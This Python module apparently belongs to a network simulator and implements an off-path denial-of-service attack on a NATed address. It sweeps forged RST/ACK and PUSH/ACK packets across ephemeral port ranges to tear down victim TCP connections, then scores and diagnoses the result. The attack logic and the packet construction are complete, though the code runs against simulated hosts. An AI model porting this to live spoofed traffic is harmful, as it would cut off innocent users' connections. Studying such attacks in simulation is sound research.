"""Off-path DoS orchestrator against a NATed public address.

The attack interleaves two blind sweeps: forged RST/ACKs spoofing the
victim server toward every plausible external port of the NAT, and
forged PUSH/ACKs spoofing the NAT toward the server's service port.
On a vulnerable device the RSTs strip the session mappings, the
PUSH/ACKs coax duplicate ACKs out of the server, and the now-unmapped
duplicate ACKs bounce off the NAT as reflected RSTs carrying the exact
sequence numbers that tear the server sockets; the clients die on their
next send.  Packet crafting is a pure function of the plan, so the
attacker never reads victim connection state.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from .endpoint import ConnKey, Host, TcpState
from .fabric import Simulator, derive_rng
from .natbox import NatBox
from .wire import Ipv4Datagram, Protocol, TcpFlag, TcpSegment

LINUX_EPHEMERAL = (32768, 61000)
WINDOWS_EPHEMERAL = (49152, 65535)


class StrikeError(Exception):
    pass


class NothingToAttackError(StrikeError):
    """No established victim connection exists through the NAT."""


class FailureDiagnosis(Enum):
    NONE = "none"
    FORWARDED_RST_NO_REMOVAL = "forwarded-rst-no-removal"
    RST_BLOCKED_BY_MIDDLEBOX = "rst-blocked-by-middlebox"
    NO_DUP_ACK_FROM_SERVER = "no-dup-ack-from-server"
    PACKET_LOSS = "packet-loss"


@dataclass(frozen=True)
class AttackPlan:
    nat_public_ip: str
    victim_server: tuple[str, int]
    dst_port_range: tuple[int, int] = LINUX_EPHEMERAL
    push_ack_src_port_range: tuple[int, int] = LINUX_EPHEMERAL
    interleave_batch: int = 1024
    rounds: int = 1
    forged_seq: int = 0
    set_ack_flag_on_rst: bool = True
    new_connection_attempts: int = 2
    seed: int = 0

    def __post_init__(self):
        for lo, hi in (self.dst_port_range, self.push_ack_src_port_range):
            if lo > hi or lo < 0 or hi > 0xFFFF:
                raise ValueError("port range empty or out of bounds")
        if self.interleave_batch < 1 or self.rounds < 1:
            raise ValueError("interleave_batch and rounds must be positive")


@dataclass
class AttackReport:
    rst_packets_sent: int = 0
    push_ack_packets_sent: int = 0
    octets_sent: int = 0
    duration_ticks: int = 0
    implied_bandwidth: float = 0.0  # octets per nominal second
    mappings_removed: int = 0
    server_sockets_reset: int = 0
    client_connections_torn: int = 0
    new_connections_blocked: int = 0
    new_connections_attempted: int = 0
    victim_connections: int = 0
    success: bool = False
    failure_diagnosis: FailureDiagnosis = FailureDiagnosis.NONE

    def csv_row(self, scenario: str, policy: str) -> str:
        return (
            f"{scenario},{policy},{str(self.success).lower()},{self.failure_diagnosis.value},"
            f"{self.rst_packets_sent},{self.push_ack_packets_sent},{self.octets_sent},"
            f"{self.duration_ticks},{self.implied_bandwidth:.1f},"
            f"{self.client_connections_torn},{self.new_connections_blocked}"
        )


def craft_rst_sweep(plan: AttackPlan) -> list[Ipv4Datagram]:
    """One forged 40-octet RST per destination port, spoofing the victim
    server; the sequence number is whatever the plan says, because a
    vulnerable device never checks it."""
    flags = TcpFlag.RST | TcpFlag.ACK if plan.set_ack_flag_on_rst else TcpFlag.RST
    lo, hi = plan.dst_port_range
    server_addr, server_port = plan.victim_server
    return [
        Ipv4Datagram(
            src=server_addr,
            dst=plan.nat_public_ip,
            protocol=Protocol.TCP,
            payload=TcpSegment(server_port, port, seq=plan.forged_seq, flags=flags),
        )
        for port in range(lo, hi + 1)
    ]


def craft_push_ack_sweep(plan: AttackPlan) -> list[Ipv4Datagram]:
    """One forged PUSH/ACK per source port, spoofing the NAT toward the
    server.  Sequence and acknowledgment numbers are arbitrary (seeded);
    one payload octet makes the segment impossible to ignore."""
    rng = derive_rng(plan.seed, "push-ack", plan.nat_public_ip)
    lo, hi = plan.push_ack_src_port_range
    server_addr, server_port = plan.victim_server
    return [
        Ipv4Datagram(
            src=plan.nat_public_ip,
            dst=server_addr,
            protocol=Protocol.TCP,
            payload=TcpSegment(
                port,
                server_port,
                seq=rng.getrandbits(32),
                ack=rng.getrandbits(32),
                flags=TcpFlag.PSH | TcpFlag.ACK,
                payload_length=1,
            ),
        )
        for port in range(lo, hi + 1)
    ]


@dataclass
class StrikeContext:
    """Assessor-side handles for outcome detection; none of this is
    visible to the packet-crafting side."""

    attacker_node: str
    server_host: Host
    victims: list[tuple[Host, ConnKey]]
    new_conn_clients: list[Host] = field(default_factory=list)
    nat: NatBox | None = None
    tick_duration: float = 0.001
    settle_ticks: int = 60
    probe_payload: int = 16


def run_dos_attack(sim: Simulator, plan: AttackPlan, ctx: StrikeContext) -> AttackReport:
    """Drive the interleaved sweeps, then trigger each victim's next send
    and collect the outcome."""
    victims = [(h, k) for h, k in ctx.victims if _state(h, k) == TcpState.ESTABLISHED]
    if not victims:
        raise NothingToAttackError("nothing-to-attack")

    report = AttackReport(victim_connections=len(victims))
    rst_stream = craft_rst_sweep(plan)
    push_stream = craft_push_ack_sweep(plan)
    sent_before = sim.counters[ctx.attacker_node].octets_sent
    removed_before = ctx.nat.mappings_removed_by_rst if ctx.nat else 0
    # only sockets that predate the attack count toward server resets;
    # half-open ghosts from blocked attempts are scored as blocked instead
    standing = {
        k for k, s in ctx.server_host.sockets.items()
        if s.state == TcpState.ESTABLISHED and s.reset_record is None
    }
    dup_acks_before = ctx.server_host.dup_acks_sent
    window_start = sim.now

    attempts: list[tuple[Host, ConnKey]] = []
    last_inject = sim.now
    for rnd in range(plan.rounds):
        if rnd == 0 and ctx.new_conn_clients:
            for i in range(plan.new_connection_attempts):
                client = ctx.new_conn_clients[i % len(ctx.new_conn_clients)]
                attempts.append((client, client.open_connection(sim, plan.victim_server)))
        batches = max(_nbatches(rst_stream, plan), _nbatches(push_stream, plan))
        for chunk in range(batches):
            lo, hi = chunk * plan.interleave_batch, (chunk + 1) * plan.interleave_batch
            for stream in (rst_stream, push_stream):
                batch = stream[lo:hi]
                for pkt in batch:
                    sim.inject(ctx.attacker_node, pkt)
                if batch:
                    last_inject = sim.now
                    if stream is rst_stream:
                        report.rst_packets_sent += len(batch)
                    else:
                        report.push_ack_packets_sent += len(batch)
                sim.run(until=sim.now + 1)

    report.duration_ticks = last_inject - window_start + 1
    sim.run(until=sim.now + ctx.settle_ticks)

    # the victims' own next transmissions complete the teardown chain
    for host, key in victims + attempts:
        if _state(host, key) == TcpState.ESTABLISHED:
            host.send_data(sim, key, ctx.probe_payload)
    sim.run(until=sim.now + ctx.settle_ticks)

    report.octets_sent = sim.counters[ctx.attacker_node].octets_sent - sent_before
    if report.duration_ticks > 0 and ctx.tick_duration > 0:
        report.implied_bandwidth = report.octets_sent / (report.duration_ticks * ctx.tick_duration)
    report.mappings_removed = (ctx.nat.mappings_removed_by_rst - removed_before) if ctx.nat else 0
    report.server_sockets_reset = sum(
        1
        for k in standing
        if ctx.server_host.sockets[k].reset_record is not None
    )
    report.client_connections_torn = sum(
        1 for h, k in victims if _state(h, k) == TcpState.CLOSED
    )
    report.new_connections_attempted = len(attempts)
    report.new_connections_blocked = sum(
        1 for h, k in attempts if _state(h, k) != TcpState.ESTABLISHED
    )
    report.success = report.client_connections_torn == len(victims) and (
        report.new_connections_blocked == len(attempts)
    )
    if not report.success:
        report.failure_diagnosis = _diagnose(sim, plan, ctx, report, window_start, dup_acks_before)
    return report


# -- outcome analysis ------------------------------------------------------------


def _state(host: Host, key: ConnKey) -> str:
    sock = host.socket(key)
    return sock.state if sock else TcpState.CLOSED


def _is_forged_rst(plan: AttackPlan, d) -> bool:
    seg = d.payload
    return (
        isinstance(seg, TcpSegment)
        and TcpFlag.RST in seg.flags
        and seg.seq == plan.forged_seq
        and d.src == plan.victim_server[0]
        and seg.src_port == plan.victim_server[1]
    )


def _diagnose(
    sim: Simulator,
    plan: AttackPlan,
    ctx: StrikeContext,
    report: AttackReport,
    start: int,
    dup_acks_before: int,
) -> FailureDiagnosis:
    client_nodes = {h.node_id for h, _ in ctx.victims}
    nat_node = ctx.nat.node_id if ctx.nat else None
    saw_rst_at_client = False
    rst_reached_nat = False
    rst_filtered = False
    rst_lost = False
    any_loss = False
    push_delivered = False
    for rec in sim.trace:
        if rec.tick < start:
            continue
        forged = _is_forged_rst(plan, rec.dgram)
        if rec.action == "drop" and rec.reason == "loss":
            any_loss = True
            if forged:
                rst_lost = True
        if forged:
            if rec.action == "drop" and rec.reason.startswith("filtered"):
                rst_filtered = True
            if rec.node == nat_node and rec.action in ("deliver", "forward"):
                rst_reached_nat = True
            if rec.node in client_nodes and rec.action == "deliver":
                saw_rst_at_client = True
        if (
            rec.action == "deliver"
            and rec.node == ctx.server_host.node_id
            and isinstance(rec.dgram.payload, TcpSegment)
            and TcpFlag.PSH in rec.dgram.payload.flags
            and rec.dgram.src == plan.nat_public_ip
        ):
            push_delivered = True

    if report.mappings_removed == 0 and saw_rst_at_client:
        return FailureDiagnosis.FORWARDED_RST_NO_REMOVAL
    if not rst_reached_nat:
        if rst_filtered:
            return FailureDiagnosis.RST_BLOCKED_BY_MIDDLEBOX
        if rst_lost:
            return FailureDiagnosis.PACKET_LOSS
        return FailureDiagnosis.RST_BLOCKED_BY_MIDDLEBOX
    if push_delivered and ctx.server_host.dup_acks_sent == dup_acks_before:
        return FailureDiagnosis.NO_DUP_ACK_FROM_SERVER
    if any_loss:
        return FailureDiagnosis.PACKET_LOSS
    return FailureDiagnosis.NONE


def _nbatches(stream: list, plan: AttackPlan) -> int:
    return (len(stream) + plan.interleave_batch - 1) // plan.interleave_batch
